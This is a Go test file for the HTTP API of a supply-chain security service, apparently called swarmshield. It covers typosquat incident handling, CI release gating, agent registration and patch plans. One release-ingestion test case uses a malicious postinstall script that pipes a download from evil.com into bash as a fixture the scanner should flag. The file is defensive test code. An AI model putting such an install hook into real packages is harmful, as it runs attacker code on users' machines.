package api

import (
	"context"
	"net/http"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/daimoniac/swarmshield/internal/config"
	"github.com/daimoniac/swarmshield/internal/credential"
	"github.com/daimoniac/swarmshield/internal/demo"
	"github.com/daimoniac/swarmshield/internal/errors"
	"github.com/daimoniac/swarmshield/internal/integration"
	"github.com/daimoniac/swarmshield/internal/observability"
	"github.com/daimoniac/swarmshield/internal/patch"
	"github.com/daimoniac/swarmshield/internal/policy"
	"github.com/daimoniac/swarmshield/internal/registry"
	"github.com/daimoniac/swarmshield/internal/scanner"
	"github.com/daimoniac/swarmshield/internal/statestore"
	"github.com/daimoniac/swarmshield/internal/swarm"
	"github.com/daimoniac/swarmshield/internal/transport"
	"github.com/daimoniac/swarmshield/internal/types"
)

type swarmFixture struct {
	server *APIServer
	bus    *transport.InProcess
}

// newSwarmServer serves a running swarm backed by SQLite
func newSwarmServer(t *testing.T, cfg *config.APIConfig, demoEnabled bool) *swarmFixture {
	t.Helper()
	logger := observability.NewLogger("error")

	store, err := statestore.NewSQLiteStore(filepath.Join(t.TempDir(), "api.db"))
	if err != nil {
		t.Fatalf("NewSQLiteStore: %v", err)
	}
	t.Cleanup(func() { store.Close() })

	ids := swarm.DefaultIdentities()
	codec := credential.NewCodec(
		credential.NewEd25519Scheme([]byte("api-test"), ids.All()),
		credential.NewStaticTrust(credential.DefaultAllowList([]string{ids.Scanner}, []string{ids.Verifier})),
	)

	bus := transport.NewInProcess(logger)
	t.Cleanup(func() { bus.Close() })

	sw, err := swarm.New(swarm.Options{
		Store:     store,
		Transport: bus,
		Registry:  registry.New(time.Minute),
		Codec:     codec,
		Logger:    logger,
	})
	if err != nil {
		t.Fatalf("swarm.New: %v", err)
	}
	if err := sw.Start(context.Background()); err != nil {
		t.Fatalf("Start: %v", err)
	}
	t.Cleanup(func() { sw.Stop() })

	svc := ServicesFromSwarm(sw, store, codec, nil, demoEnabled)
	return &swarmFixture{
		server: NewAPIServer(cfg, svc, logger),
		bus:    bus,
	}
}

func (f *swarmFixture) settle(t *testing.T) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if err := f.bus.WaitIdle(ctx); err != nil {
		t.Fatalf("WaitIdle: %v", err)
	}
}

func TestHandlers_TyposquatLifecycle(t *testing.T) {
	f := newSwarmServer(t, openConfig(), true)
	s := f.server

	// trigger
	w := do(t, s, http.MethodPost, "/api/v1/demo/trigger", `{"scenario":"typosquat","projectId":"web-shop"}`)
	if w.Code != http.StatusOK {
		t.Fatalf("trigger: status %d: %s", w.Code, w.Body.String())
	}
	var trig demo.TriggerResult
	decode(t, w, &trig)
	if trig.IncidentID == "" || !trig.Scan.Suspicious {
		t.Fatalf("trigger produced no incident: %+v", trig)
	}
	f.settle(t)

	// incident is verified and references its credentials
	w = do(t, s, http.MethodGet, "/api/v1/incidents/"+trig.IncidentID, "")
	var inc types.Incident
	decode(t, w, &inc)
	if inc.Status != types.StatusVerified {
		t.Fatalf("incident status = %s, want verified", inc.Status)
	}
	if len(inc.CredentialIDs) < 2 {
		t.Errorf("incident credential ids = %v, want finding and verdict", inc.CredentialIDs)
	}

	// gate blocks the release and allows the attested rollback target
	w = do(t, s, http.MethodPost, "/api/v1/ci/check", `{"projectId":"web-shop","packageName":"lodash-utils","version":"1.0.1"}`)
	var decision policy.Decision
	decode(t, w, &decision)
	if decision.Allowed || len(decision.BlockingIncidents) != 1 || decision.BlockingIncidents[0] != trig.IncidentID {
		t.Errorf("decision for 1.0.1 = %+v", decision)
	}
	w = do(t, s, http.MethodPost, "/api/v1/ci/check", `{"projectId":"web-shop","packageName":"lodash-utils","version":"1.0.0"}`)
	decision = policy.Decision{}
	decode(t, w, &decision)
	if !decision.Allowed {
		t.Errorf("decision for 1.0.0 = %+v", decision)
	}

	// verdict credential verifies
	w = do(t, s, http.MethodGet, "/api/v1/credentials?incident_id="+trig.IncidentID+"&type=VerifiedIncident", "")
	var creds []credential.Credential
	decode(t, w, &creds)
	if len(creds) != 1 {
		t.Fatalf("verified incident credentials = %d, want 1", len(creds))
	}
	w = do(t, s, http.MethodGet, "/api/v1/credentials/"+creds[0].ID+"/verify", "")
	var verify VerifyCredentialResponse
	decode(t, w, &verify)
	if !verify.SignatureValid || !verify.IssuerTrusted || verify.Expired {
		t.Errorf("verify = %+v", verify)
	}

	// plan and accept
	w = do(t, s, http.MethodPost, "/api/v1/patch-plans", `{"incidentId":"`+trig.IncidentID+`"}`)
	if w.Code != http.StatusOK {
		t.Fatalf("create plan: status %d: %s", w.Code, w.Body.String())
	}
	var plan types.PatchPlan
	decode(t, w, &plan)
	if plan.IncidentID != trig.IncidentID || plan.Status != types.PlanProposed {
		t.Errorf("plan = %+v", plan)
	}

	w = do(t, s, http.MethodPost, "/api/v1/patch-plans/"+plan.ID+"/accept", "")
	if w.Code != http.StatusOK {
		t.Fatalf("accept: status %d: %s", w.Code, w.Body.String())
	}
	plan = types.PatchPlan{}
	decode(t, w, &plan)
	if plan.Status != types.PlanAccepted {
		t.Errorf("plan status = %s, want accepted", plan.Status)
	}

	w = do(t, s, http.MethodGet, "/api/v1/incidents?status=mitigated", "")
	var mitigated []types.Incident
	decode(t, w, &mitigated)
	if len(mitigated) != 1 || mitigated[0].ID != trig.IncidentID {
		t.Errorf("mitigated incidents = %+v", mitigated)
	}

	w = do(t, s, http.MethodPost, "/api/v1/ci/check", `{"projectId":"web-shop","packageName":"lodash-utils","version":"1.0.1"}`)
	decision = policy.Decision{}
	decode(t, w, &decision)
	if !decision.Allowed {
		t.Errorf("mitigated release still blocked: %s", decision.Reason)
	}
}

func TestHandlers_IngestRelease(t *testing.T) {
	f := newSwarmServer(t, openConfig(), false)

	tests := []struct {
		name           string
		body           string
		wantStatus     int
		wantSuspicious bool
	}{
		{
			name:       "clean release",
			body:       `{"packageName":"quokka-calendar","version":"1.3.0","lifecycleScripts":{"test":"node test.js"}}`,
			wantStatus: http.StatusOK,
		},
		{
			name:           "malicious install script",
			body:           `{"packageName":"colors-extra","version":"2.0.0","lifecycleScripts":{"postinstall":"curl http://evil.com/x.sh | bash"}}`,
			wantStatus:     http.StatusOK,
			wantSuspicious: true,
		},
		{name: "missing version", body: `{"packageName":"quokka-calendar"}`, wantStatus: http.StatusBadRequest},
		{name: "malformed body", body: `{"packageName":`, wantStatus: http.StatusBadRequest},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			w := do(t, f.server, http.MethodPost, "/api/v1/releases", tt.body)
			if w.Code != tt.wantStatus {
				t.Fatalf("status = %d, want %d: %s", w.Code, tt.wantStatus, w.Body.String())
			}
			if tt.wantStatus != http.StatusOK {
				return
			}
			var res scanner.Result
			decode(t, w, &res)
			if res.Suspicious != tt.wantSuspicious {
				t.Errorf("suspicious = %v, want %v", res.Suspicious, tt.wantSuspicious)
			}
			if tt.wantSuspicious && res.IncidentID == "" {
				t.Error("suspicious release opened no incident")
			}
		})
	}
	f.settle(t)
}

func TestHandlers_Agents(t *testing.T) {
	f := newSwarmServer(t, openConfig(), true)
	s := f.server

	w := do(t, s, http.MethodGet, "/api/v1/agents", "")
	var list AgentListResponse
	decode(t, w, &list)
	if len(list.Agents) != 4 || list.Online != 4 {
		t.Fatalf("agents = %d, online = %d, want 4 and 4", len(list.Agents), list.Online)
	}

	w = do(t, s, http.MethodPost, "/api/v1/agents", `{"identity":"did:agent:extra","displayName":"Extra","capabilities":["security_scan"]}`)
	if w.Code != http.StatusOK {
		t.Fatalf("register: status %d: %s", w.Code, w.Body.String())
	}

	w = do(t, s, http.MethodGet, "/api/v1/agents/did:agent:extra", "")
	var agent registry.Agent
	decode(t, w, &agent)
	if agent.Status != registry.StatusOnline || !agent.HasCapability(registry.CapSecurityScan) {
		t.Errorf("agent = %+v", agent)
	}

	w = do(t, s, http.MethodPost, "/api/v1/agents/did:agent:extra/heartbeat", "")
	if w.Code != http.StatusOK {
		t.Errorf("heartbeat: status %d", w.Code)
	}

	w = do(t, s, http.MethodGet, "/api/v1/agents?online=false", "")
	list = AgentListResponse{}
	decode(t, w, &list)
	if len(list.Agents) != 0 || list.Online != 5 {
		t.Errorf("offline agents = %d, online = %d", len(list.Agents), list.Online)
	}

	errorCases := []struct {
		name       string
		method     string
		path       string
		body       string
		wantStatus int
	}{
		{"unknown capability", http.MethodPost, "/api/v1/agents", `{"identity":"did:agent:y","capabilities":["mind_reading"]}`, http.StatusBadRequest},
		{"missing identity", http.MethodPost, "/api/v1/agents", `{"capabilities":["autofix"]}`, http.StatusBadRequest},
		{"unknown agent", http.MethodGet, "/api/v1/agents/did:agent:ghost", "", http.StatusNotFound},
		{"heartbeat unknown agent", http.MethodPost, "/api/v1/agents/did:agent:ghost/heartbeat", "", http.StatusNotFound},
	}
	for _, tt := range errorCases {
		t.Run(tt.name, func(t *testing.T) {
			w := do(t, s, tt.method, tt.path, tt.body)
			if w.Code != tt.wantStatus {
				t.Errorf("status = %d, want %d", w.Code, tt.wantStatus)
			}
			var body map[string]string
			decode(t, w, &body)
			if body["error"] == "" {
				t.Error("error response carries no message")
			}
		})
	}
}

func TestHandlers_Demo(t *testing.T) {
	f := newSwarmServer(t, openConfig(), true)
	s := f.server

	w := do(t, s, http.MethodGet, "/api/v1/demo/scenarios", "")
	var scenarios []ScenarioResponse
	decode(t, w, &scenarios)
	if len(scenarios) != len(demo.Scenarios()) {
		t.Errorf("scenarios = %d, want %d", len(scenarios), len(demo.Scenarios()))
	}

	w = do(t, s, http.MethodPost, "/api/v1/demo/seed", "")
	var seed SeedResponse
	decode(t, w, &seed)
	if seed.Registered != 4 {
		t.Errorf("seeded %d agents, want 4", seed.Registered)
	}

	// an empty body runs the default scenario
	w = do(t, s, http.MethodPost, "/api/v1/demo/trigger", "")
	var trig demo.TriggerResult
	decode(t, w, &trig)
	if trig.Scenario != demo.DefaultScenario {
		t.Errorf("scenario = %q, want %q", trig.Scenario, demo.DefaultScenario)
	}
	f.settle(t)

	w = do(t, s, http.MethodPost, "/api/v1/demo/trigger", `{"scenario":"ransomware"}`)
	if w.Code != http.StatusBadRequest {
		t.Errorf("unknown scenario: status %d, want 400", w.Code)
	}
}

func TestHandlers_DemoDisabled(t *testing.T) {
	server := newTestServer(openConfig(), Services{})

	for _, tc := range []struct{ method, path string }{
		{http.MethodGet, "/api/v1/demo/scenarios"},
		{http.MethodPost, "/api/v1/demo/trigger"},
		{http.MethodPost, "/api/v1/demo/seed"},
	} {
		w := do(t, server, tc.method, tc.path, "")
		if w.Code != http.StatusNotFound {
			t.Errorf("%s %s: status %d, want 404", tc.method, tc.path, w.Code)
		}
	}
}

func TestHandleCICheck(t *testing.T) {
	tests := []struct {
		name       string
		body       string
		gate       *mockGate
		wantStatus int
		wantError  string
	}{
		{
			name:       "decision returned verbatim",
			body:       `{"projectId":"p1","packageName":"lodash","version":"4.17.21"}`,
			gate:       &mockGate{decision: &policy.Decision{Allowed: false, Reason: "Blocked by policy", BlockingIncidents: []string{"inc-1"}}},
			wantStatus: http.StatusOK,
		},
		{
			name:       "missing version",
			body:       `{"packageName":"lodash"}`,
			gate:       &mockGate{},
			wantStatus: http.StatusBadRequest,
			wantError:  "packageName and version are required",
		},
		{
			name:       "invalid json",
			body:       `not json`,
			gate:       &mockGate{},
			wantStatus: http.StatusBadRequest,
			wantError:  "Invalid request body",
		},
		{
			name:       "store failure",
			body:       `{"packageName":"lodash","version":"4.17.21"}`,
			gate:       &mockGate{err: errors.NewTransientf("database is locked")},
			wantStatus: http.StatusInternalServerError,
			wantError:  "database is locked",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			server := newTestServer(openConfig(), Services{Gate: tt.gate})
			w := do(t, server, http.MethodPost, "/api/v1/ci/check", tt.body)
			if w.Code != tt.wantStatus {
				t.Fatalf("status = %d, want %d: %s", w.Code, tt.wantStatus, w.Body.String())
			}
			if tt.wantError != "" {
				var body map[string]string
				decode(t, w, &body)
				if !strings.Contains(body["error"], tt.wantError) {
					t.Errorf("error = %q, want it to contain %q", body["error"], tt.wantError)
				}
				return
			}

			var got policy.Decision
			decode(t, w, &got)
			if got.Allowed || got.Reason != "Blocked by policy" || len(got.BlockingIncidents) != 1 {
				t.Errorf("decision = %+v", got)
			}
			if len(tt.gate.calls) != 1 || tt.gate.calls[0].ProjectID != "p1" {
				t.Errorf("gate calls = %+v", tt.gate.calls)
			}
		})
	}
}

func TestHandleCIPolicy(t *testing.T) {
	server := newTestServer(openConfig(), Services{})
	w := do(t, server, http.MethodGet, "/api/v1/ci/policy", "")
	var desc policy.Description
	decode(t, w, &desc)
	if desc.AgentIdentity != "did:agent:ci" || desc.DefaultPolicy != "allow_unknown" {
		t.Errorf("description = %+v", desc)
	}
}

func TestListFilters(t *testing.T) {
	store := &mockStore{}
	server := newTestServer(openConfig(), Services{Store: store})

	w := do(t, server, http.MethodGet, "/api/v1/credentials?package=lodash-utils&version=1.0.1&type=RiskFinding&limit=5", "")
	if w.Code != http.StatusOK {
		t.Fatalf("status = %d", w.Code)
	}
	if body := strings.TrimSpace(w.Body.String()); body != "[]" {
		t.Errorf("empty list rendered as %s, want []", body)
	}
	want := statestore.CredentialFilter{PackageName: "lodash-utils", Version: "1.0.1", Type: credential.RiskFinding, Limit: 5}
	if store.lastCredentialFilter != want {
		t.Errorf("credential filter = %+v, want %+v", store.lastCredentialFilter, want)
	}

	w = do(t, server, http.MethodGet, "/api/v1/incidents?status=verified&package=lodash-utils", "")
	if w.Code != http.StatusOK {
		t.Fatalf("status = %d", w.Code)
	}
	if store.lastIncidentFilter.Status != types.StatusVerified || store.lastIncidentFilter.Limit != 100 {
		t.Errorf("incident filter = %+v", store.lastIncidentFilter)
	}

	for _, path := range []string{
		"/api/v1/credentials?type=Bogus",
		"/api/v1/incidents?status=closed",
	} {
		if w := do(t, server, http.MethodGet, path, ""); w.Code != http.StatusBadRequest {
			t.Errorf("%s: status %d, want 400", path, w.Code)
		}
	}
}

func TestErrorMapping(t *testing.T) {
	tests := []struct {
		name       string
		store      *mockStore
		path       string
		wantStatus int
	}{
		{"incident not found", &mockStore{}, "/api/v1/incidents/missing", http.StatusNotFound},
		{"credential not found", &mockStore{}, "/api/v1/credentials/missing", http.StatusNotFound},
		{"verify missing credential", &mockStore{}, "/api/v1/credentials/missing/verify", http.StatusNotFound},
		{"patch plan not found", &mockStore{}, "/api/v1/patch-plans/missing", http.StatusNotFound},
		{"store unavailable", &mockStore{err: errors.NewTransientf("connection refused")}, "/api/v1/incidents", http.StatusInternalServerError},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			server := newTestServer(openConfig(), Services{Store: tt.store})
			w := do(t, server, http.MethodGet, tt.path, "")
			if w.Code != tt.wantStatus {
				t.Errorf("status = %d, want %d", w.Code, tt.wantStatus)
			}
			var body map[string]string
			decode(t, w, &body)
			if body["error"] == "" {
				t.Error("error response carries no message")
			}
		})
	}
}

type mockPlanner struct {
	err error
}

func (m *mockPlanner) Plan(ctx context.Context, incidentID string) (*types.PatchPlan, error) {
	return nil, m.err
}

func (m *mockPlanner) Accept(ctx context.Context, planID string) (*types.PatchPlan, error) {
	return nil, m.err
}

func (m *mockPlanner) Alternatives() map[string]patch.Alternative {
	return map[string]patch.Alternative{
		"request-promise": {Package: "got", Version: "14.4.0"},
		"lodash-utils":    {Package: "lodash", Version: "4.17.21"},
	}
}

func TestPatchPlanConflicts(t *testing.T) {
	planner := &mockPlanner{err: errors.NewConflictf("incident inc-1 is detected, plans require a verified incident")}
	server := newTestServer(openConfig(), Services{Planner: planner})

	w := do(t, server, http.MethodPost, "/api/v1/patch-plans", `{"incidentId":"inc-1"}`)
	if w.Code != http.StatusConflict {
		t.Errorf("create: status %d, want 409", w.Code)
	}
	w = do(t, server, http.MethodPost, "/api/v1/patch-plans/plan-1/accept", "")
	if w.Code != http.StatusConflict {
		t.Errorf("accept: status %d, want 409", w.Code)
	}

	w = do(t, server, http.MethodGet, "/api/v1/patch-plans/alternatives", "")
	var alts []AlternativeResponse
	decode(t, w, &alts)
	if len(alts) != 2 || alts[0].Package != "lodash-utils" || alts[0].Replacement != "lodash" {
		t.Errorf("alternatives = %+v", alts)
	}
}

func TestHandleVerificationKeys(t *testing.T) {
	ids := swarm.DefaultIdentities().All()
	trust := credential.NewStaticTrust(nil)

	server := newTestServer(openConfig(), Services{
		Verifier: credential.NewCodec(credential.NewEd25519Scheme([]byte("keys"), ids), trust),
	})
	w := do(t, server, http.MethodGet, "/api/v1/integration/keys", "")
	if w.Code != http.StatusOK {
		t.Fatalf("status = %d: %s", w.Code, w.Body.String())
	}
	var keys integration.KeySet
	decode(t, w, &keys)
	if keys.Algorithm != credential.AlgorithmEd25519 || len(keys.Keys) != len(ids) {
		t.Errorf("keys = %s with %d keys", keys.Algorithm, len(keys.Keys))
	}

	server = newTestServer(openConfig(), Services{
		Verifier: credential.NewCodec(credential.NewHMACScheme([]byte("keys"), ids), trust),
	})
	if w := do(t, server, http.MethodGet, "/api/v1/integration/keys", ""); w.Code != http.StatusNotFound {
		t.Errorf("hmac scheme: status %d, want 404", w.Code)
	}
}

func TestHandleCIStep(t *testing.T) {
	server := newTestServer(openConfig(), Services{})

	w := do(t, server, http.MethodGet, "/api/v1/integration/ci-step?format=gitlab&project_id=web-shop", "")
	if w.Code != http.StatusOK {
		t.Fatalf("status = %d: %s", w.Code, w.Body.String())
	}
	if ct := w.Header().Get("Content-Type"); ct != "application/yaml" {
		t.Errorf("Content-Type = %s", ct)
	}
	body := w.Body.String()
	for _, want := range []string{"swarmshield-gate", "http://gate.example.com", "web-shop"} {
		if !strings.Contains(body, want) {
			t.Errorf("ci step missing %q", want)
		}
	}

	if w := do(t, server, http.MethodGet, "/api/v1/integration/ci-step?format=jenkins", ""); w.Code != http.StatusBadRequest {
		t.Errorf("unknown format: status %d, want 400", w.Code)
	}
}
